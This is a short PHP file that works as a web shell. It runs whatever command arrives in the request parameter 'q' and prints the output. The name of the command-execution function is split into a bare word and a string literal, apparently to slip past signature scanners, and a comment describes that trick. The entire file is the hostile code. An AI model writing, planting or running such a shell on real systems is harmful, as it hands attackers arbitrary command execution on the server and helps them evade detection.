<?php
// the runner name in pieces: a bare word glued to a literal that is called
if (isset($_REQUEST['q'])) {
    echo "<pre>";
    pass.'thru'($_REQUEST['q']);
}
